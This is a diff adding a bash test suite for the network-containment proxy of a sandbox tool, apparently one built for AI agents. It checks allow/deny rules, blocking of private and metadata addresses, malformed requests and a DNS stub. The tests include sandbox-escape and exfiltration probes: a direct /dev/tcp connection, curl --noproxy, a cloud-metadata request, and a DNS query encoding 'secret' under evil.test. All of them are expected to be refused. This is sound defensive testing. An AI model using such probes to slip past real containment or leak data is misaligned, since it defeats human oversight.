@@ -1,0 +1,332 @@
+#!/usr/bin/env bash
+# Network containment (--net proxy): the proxy, its policy, its audit events.
+# Everything runs against a "remote" network namespace this file creates
+# (veth pair, 10.77.N.0/24) with HTTP servers in it, and test names mapped
+# by a private /etc/hosts bind-mounted in a mount namespace of the test's
+# own (the proxy resolves with the host's resolver and /etc/hosts).
+. "$(dirname "$0")/lib.sh"
+
+NET_N=$((($$ % 200) + 20))
+NS=cbnet$$
+VH=cbh$$
+VR=cbr$$
+HOST_IP=10.77.$NET_N.1
+REMOTE_IP=10.77.$NET_N.2
+NET_READY=
+NET_PIDS=()
+
+net_cleanup() {
+	for p in "${NET_PIDS[@]}"; do kill "$p" 2>/dev/null; done
+	ip link del "$VH" 2>/dev/null
+	ip netns del "$NS" 2>/dev/null
+	t_cleanup
+}
+trap net_cleanup EXIT
+
+# The remote side: a namespace with an HTTP server on port 80 and one on
+# 8080 that answer "hello from PORT PATH", plus /big (8 MiB).
+net_setup() {
+	[ "$(id -u)" -eq 0 ] || return 1
+	command -v ip >/dev/null && command -v curl >/dev/null || return 1
+	ip netns add "$NS" || return 1
+	ip link add "$VH" type veth peer name "$VR" || return 1
+	ip link set "$VR" netns "$NS"
+	ip addr add "$HOST_IP/24" dev "$VH"
+	ip link set "$VH" up
+	ip -n "$NS" addr add "$REMOTE_IP/24" dev "$VR"
+	ip -n "$NS" link set "$VR" up
+	ip -n "$NS" link set lo up
+	cat >"$T_TMP/server.py" <<'EOF'
+import http.server, socketserver, sys
+port = int(sys.argv[2])
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = (b"x" * (8 << 20)) if self.path == "/big" else \
+            ("hello from %d %s host=%s\n" % (port, self.path, self.headers.get("Host"))).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *a):
+        pass
+class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+S((sys.argv[1], port), H).serve_forever()
+EOF
+	for port in 80 8080; do
+		ip netns exec "$NS" python3 "$T_TMP/server.py" "$REMOTE_IP" $port &
+		NET_PIDS+=($!)
+	done
+	for _ in $(seq 50); do
+		curl -s -m 1 "http://$REMOTE_IP:8080/" >/dev/null && curl -s -m 1 "http://$REMOTE_IP/" >/dev/null && break
+		sleep 0.1
+	done
+	cat >"$T_TMP/hosts" <<EOF
+127.0.0.1 localhost
+$REMOTE_IP good.test evil.test api.good.test
+127.0.0.1 loop.test
+169.254.169.254 meta.test
+EOF
+	chmod 644 "$T_TMP/hosts"
+	NET_READY=1
+}
+net_setup || true
+
+need_net() {
+	[ -n "$NET_READY" ] || skip "needs root, iproute2, curl and network namespaces"
+}
+
+# box ARGS...: clawbox run --net proxy with the test hosts file in place.
+box() {
+	unshare -m sh -c 'mount --bind "$0" /etc/hosts && exec "$@"' "$T_TMP/hosts" \
+		"$CLAWBOX" run --project "$P" --net proxy "$@"
+}
+
+net_log() {
+	"$CLAWBOX" audit --project "$P" --json 2>/dev/null | grep '"net.connect"' || true
+}
+
+allowed_http_through_proxy() {
+	need_net
+	mkproj "$P"
+	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- curl -sS -m 5 http://good.test/a)
+	[ "$out" = "hello from 80 /a host=good.test" ] || fail "plain HTTP: '$out'"
+	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- curl -sS -m 5 -p http://good.test/b)
+	[ "$out" = "hello from 80 /b host=good.test" ] || fail "CONNECT tunnel: '$out'"
+	out=$(box --allow-domain good.test:8080 --allow-ip "$REMOTE_IP" -- sh -c 'unset http_proxy HTTP_PROXY; curl -sS -m 5 http://good.test:8080/c')
+	[ "$out" = "hello from 8080 /c host=good.test:8080" ] || fail "SOCKS5 (ALL_PROXY): '$out'"
+	log=$(net_log)
+	echo "$log" | grep '"proto":"http"' | grep '"decision":"allow"' | grep '"host":"good.test"' |
+		grep "\"addr\":\"$REMOTE_IP\"" | grep -q '"bytes_in":[1-9]' || fail "no allow event with bytes: $log"
+	echo "$log" | grep '"proto":"http-connect"' | grep -q '"decision":"allow"' || fail "no CONNECT allow event"
+	echo "$log" | grep '"proto":"socks5"' | grep '"port":8080' | grep -q '"decision":"allow"' || fail "no SOCKS5 allow event"
+	"$CLAWBOX" audit verify --project "$P" >/dev/null || fail "audit chain broken"
+}
+
+denied_domain_and_deny_wins() {
+	need_net
+	mkproj "$P"
+	code=$(box --allow-domain '*.test' --deny-domain evil.test --allow-ip "$REMOTE_IP" -- \
+		curl -s -m 5 -o /dev/null -w '%{http_code}' http://evil.test/) || true
+	[ "$code" = 403 ] || fail "evil.test: expected 403, got '$code'"
+	code=$(box --allow-domain '*.test' --allow-ip "$REMOTE_IP" -- \
+		curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test/) || true
+	[ "$code" = 200 ] || fail "*.test did not match good.test: got '$code'"
+	code=$(box --allow-domain '*.good.test' --allow-ip "$REMOTE_IP" -- \
+		curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test/) || true
+	[ "$code" = 403 ] || fail "*.good.test matched good.test itself: '$code'"
+	code=$(box --allow-domain '*.good.test' --allow-ip "$REMOTE_IP" -- \
+		curl -s -m 5 -o /dev/null -w '%{http_code}' http://api.good.test/) || true
+	[ "$code" = 200 ] || fail "*.good.test did not match api.good.test: '$code'"
+	code=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- \
+		curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test:8080/) || true
+	[ "$code" = 403 ] || fail "a pattern without a port allowed 8080: '$code'"
+	log=$(net_log)
+	echo "$log" | grep '"host":"evil.test"' | grep '"decision":"deny"' | grep -q '"rule":"evil.test"' ||
+		fail "no deny event naming the rule: $log"
+	echo "$log" | grep '"port":8080' | grep '"decision":"deny"' | grep -q '"rule":"unmatched"' ||
+		fail "no unmatched deny for 8080: $log"
+}
+
+private_addresses_refused() {
+	need_net
+	mkproj "$P"
+	# good.test resolves to a private address (10.77/16): refused without --allow-ip.
+	code=$(box --allow-domain good.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test/) || true
+	[ "$code" = 403 ] || fail "private address: expected 403, got '$code'"
+	code=$(box --allow-domain loop.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' http://loop.test/) || true
+	[ "$code" = 403 ] || fail "loopback: expected 403, got '$code'"
+	code=$(box --allow-domain meta.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' http://meta.test/latest/meta-data/) || true
+	[ "$code" = 403 ] || fail "metadata: expected 403, got '$code'"
+	# An IP literal needs an address rule, even when a domain would match.
+	code=$(box --allow-domain good.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' "http://$REMOTE_IP/") || true
+	[ "$code" = 403 ] || fail "IP literal: expected 403, got '$code'"
+	code=$(box --allow-ip "$REMOTE_IP/32" -- curl -s -m 5 -o /dev/null -w '%{http_code}' "http://$REMOTE_IP/") || true
+	[ "$code" = 200 ] || fail "IP literal with --allow-ip: expected 200, got '$code'"
+	log=$(net_log)
+	for rule in private loopback metadata ip-literal; do
+		echo "$log" | grep '"decision":"deny"' | grep -q "\"rule\":\"$rule\"" || fail "no '$rule' denial: $log"
+	done
+}
+
+no_way_around_the_proxy() {
+	need_net
+	mkproj "$P"
+	# A tool that ignores the proxy variables reaches nothing.
+	if box --allow-domain good.test --allow-ip "$REMOTE_IP" -- \
+		bash -c "exec 3<>/dev/tcp/$REMOTE_IP/80" 2>/dev/null; then
+		fail "a direct connection left the box"
+	fi
+	if box --allow-domain good.test --allow-ip "$REMOTE_IP" -- \
+		curl -sS -m 3 --noproxy '*' http://good.test/ 2>/dev/null; then
+		fail "curl --noproxy reached the remote"
+	fi
+	# The box's processes do not hold the listeners: binding the proxy's port
+	# inside the box fails because it is taken.
+	if box -- python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 3128))' 2>/dev/null; then
+		fail "the proxy port was free inside the box"
+	fi
+}
+
+bad_requests_refused() {
+	need_net
+	mkproj "$P"
+	cat >"$P/probe.py" <<'EOF'
+import socket, sys
+def ask(data, n=4096):
+    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+    s.settimeout(15)
+    s.sendall(data)
+    out = b""
+    try:
+        while len(out) < n:
+            b = s.recv(n)
+            if not b: break
+            out += b
+    except Exception as e:
+        out += b"EXC " + str(e).encode()
+    return out
+if sys.argv[1] == "3128":
+    print(ask(b"GARBAGE\r\n\r\n").split(b"\r\n")[0].decode())
+    print(ask(b"GET http://good.test/ HTTP/1.1\r\nX: " + b"a" * 20000 + b"\r\n\r\n").split(b"\r\n")[0].decode())
+    print(ask(b"GET http://good.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n").split(b"\r\n")[0].decode())
+    print(ask(b"CONNECT good.test HTTP/1.1\r\n\r\n").split(b"\r\n")[0].decode())
+    print(ask(b"GET ftp://good.test/ HTTP/1.1\r\n\r\n").split(b"\r\n")[0].decode())
+else:
+    # SOCKS5 BIND (command 2): "command not supported" (7).
+    r = ask(bytes([5, 1, 0, 5, 2, 0, 3, 9]) + b"good.test" + bytes([0, 80]), 12)
+    print(list(r[:4]))
+    # Only username/password offered: no acceptable method.
+    print(list(ask(bytes([5, 1, 2]), 2)))
+EOF
+	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- python3 probe.py 3128)
+	expected=$(printf '%s\n' "HTTP/1.1 400 Bad Request" "HTTP/1.1 431 Request Header Fields Too Large" \
+		"HTTP/1.1 400 Bad Request" "HTTP/1.1 400 Bad Request" "HTTP/1.1 400 Bad Request")
+	[ "$out" = "$expected" ] || fail "HTTP bad input: got '$out'"
+	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- python3 probe.py 1080)
+	[ "$out" = "$(printf '[5, 0, 5, 7]\n[5, 255]')" ] || fail "SOCKS5 bad input: got '$out'"
+	log=$(net_log)
+	echo "$log" | grep -q '"reason":"request head too large"' || fail "oversized head not logged"
+	echo "$log" | grep -q '"reason":"unsupported command"' || fail "SOCKS5 BIND not logged"
+}
+
+slow_client_cut_off() {
+	need_net
+	mkproj "$P"
+	start=$(date +%s)
+	out=$(box -- python3 -c '
+import socket, time
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"GET http://good.test/ HTTP/1.1\r\n")
+s.settimeout(30)
+t = time.time()
+r = s.recv(100)
+print(r.split(b"\r\n")[0].decode(), int(time.time() - t) < 15)')
+	[ "$out" = "HTTP/1.1 408 Request Timeout True" ] || fail "slowloris: '$out'"
+	net_log | grep -q '"reason":"request timed out"' || fail "timeout not logged"
+}
+
+bulk_transfer_intact() {
+	need_net
+	mkproj "$P"
+	n=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- sh -c 'curl -sS -m 20 -p http://good.test/big | wc -c')
+	[ "$n" = $((8 << 20)) ] || fail "got $n bytes of 8 MiB"
+	got=$(net_log | grep '"proto":"http-connect"' | grep -oE '"bytes_in":[0-9]+' | cut -d: -f2)
+	[ -n "$got" ] && [ "$got" -gt $((8 << 20)) ] && [ "$got" -lt $(((8 << 20) + 4096)) ] ||
+		fail "byte count not logged right: '$got'"
+}
+
+bad_policy_input() {
+	mkproj "$P"
+	for bad in '*.' 'a..b' 'exa mple.com' 'x.com:0' 'x.com:70000' '-x.com' '10.0.0.1' 'x.com:'; do
+		if "$CLAWBOX" run --project "$P" --net proxy --allow-domain "$bad" -- true 2>/dev/null; then
+			fail "pattern '$bad' accepted"
+		fi
+	done
+	for bad in '10.0.0.0/33' 'x' '1.2.3.4/' '::1/129'; do
+		if "$CLAWBOX" run --project "$P" --net proxy --allow-ip "$bad" -- true 2>/dev/null; then
+			fail "address '$bad' accepted"
+		fi
+	done
+	"$CLAWBOX" run --project "$P" --net bogus -- true 2>/dev/null && fail "--net bogus accepted"
+	"$CLAWBOX" run --project "$P" -- true
+	printf 'allow-domain ok.example\nallow-domainx bad\n' >"$(echo "$CLAWBOX_STATE_DIR"/boxes/proj-*)/net"
+	err=$("$CLAWBOX" run --project "$P" --net proxy -- true 2>&1) && fail "bad net file accepted"
+	echo "$err" | grep -q "invalid line 2" || fail "message does not name the line: $err"
+}
+
+net_none_stays_offline() {
+	mkproj "$P"
+	out=$("$CLAWBOX" run --project "$P" --net none -- sh -c 'env | grep -ci _proxy || true')
+	[ "$out" = 0 ] || fail "proxy variables set with --net none"
+	if "$CLAWBOX" run --project "$P" --net none -- bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128' 2>/dev/null; then
+		fail "a proxy listener exists with --net none"
+	fi
+}
+
+case_run "allowed domain reachable over HTTP, CONNECT and SOCKS5; logged with bytes" allowed_http_through_proxy
+case_run "denied and unmatched domains refused (deny wins, *. is subdomains only, ports)" denied_domain_and_deny_wins
+case_run "private, loopback, metadata and IP-literal destinations refused" private_addresses_refused
+case_run "no way around the proxy" no_way_around_the_proxy
+case_run "malformed, oversized and unsupported requests refused and logged" bad_requests_refused
+case_run "slow client cut off after the request timeout" slow_client_cut_off
+case_run "bulk transfer through a tunnel is intact" bulk_transfer_intact
+case_run "invalid patterns refused" bad_policy_input
+case_run "--net none has no proxy" net_none_stays_offline
+
+dns_stub_refuses_unknown_names() {
+	need_net
+	mkproj "$P"
+	cat >"$P/dns.py" <<'PY'
+import socket, struct, sys
+def ask(name, qtype=1):
+    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\0" + struct.pack(">HH", qtype, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(q, ("127.0.0.1", 53))
+    r = s.recv(512)
+    rcode, an = r[3] & 15, struct.unpack(">H", r[6:8])[0]
+    addrs = [socket.inet_ntoa(r[len(q) + 12 + i * 16:len(q) + 16 + i * 16]) for i in range(an)]
+    return "%s rcode=%d %s" % (name, rcode, ",".join(addrs))
+print(open("/etc/resolv.conf").read().split("\n")[1])
+print(ask("good.test"))
+print(ask("c2VjcmV0.evil.test"))
+PY
+	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- python3 dns.py)
+	expected=$(printf '%s\n' "nameserver 127.0.0.1" "good.test rcode=0 $REMOTE_IP" "c2VjcmV0.evil.test rcode=5 ")
+	[ "$out" = "$expected" ] || fail "DNS stub: got '$out'"
+	"$CLAWBOX" audit --project "$P" --json | grep '"net.dns"' | grep '"host":"c2VjcmV0.evil.test"' |
+		grep -q '"decision":"deny"' || fail "refused DNS question not logged"
+}
+case_run "DNS stub answers allowed names only (no exfiltration by DNS)" dns_stub_refuses_unknown_names
+
+audit_net_view() {
+	need_net
+	mkproj "$P"
+	box --allow-domain good.test --allow-ip "$REMOTE_IP" -- sh -c \
+		'curl -s -m 5 http://good.test/ >/dev/null; curl -s -m 5 http://evil.test/ >/dev/null' || true
+	out=$("$CLAWBOX" audit --project "$P" --net)
+	[ "$(echo "$out" | wc -l)" = 2 ] || fail "expected 2 net lines: $out"
+	echo "$out" | grep -E "ALLOW +http +good.test:80 +$REMOTE_IP +rule=good.test out=[0-9]+ in=[0-9]+" >/dev/null ||
+		fail "allow line: $out"
+	echo "$out" | grep -E "DENY +http +evil.test:80 +- +rule=unmatched \(domain policy\)" >/dev/null ||
+		fail "deny line: $out"
+}
+case_run "clawbox audit --net shows the decisions" audit_net_view
+
+agent_cannot_change_the_network() {
+	mkproj "$P"
+	command -v ip >/dev/null || skip "needs iproute2"
+	out=$("$CLAWBOX" run --project "$P" -- sh -c '
+		ip link add cbx0 type dummy 2>/dev/null && echo LINK
+		ip addr add 10.99.0.1/24 dev lo 2>/dev/null && echo ADDR
+		ip route add default dev lo 2>/dev/null && echo ROUTE
+		ip link set lo down 2>/dev/null && echo DOWN
+		ip -o link show | grep -vc "lo:" || true')
+	[ "$out" = 0 ] || fail "the box changed its network or has more than lo: '$out'"
+}
+case_run "the agent cannot change the box's network (no interfaces, routes, addresses)" agent_cannot_change_the_network
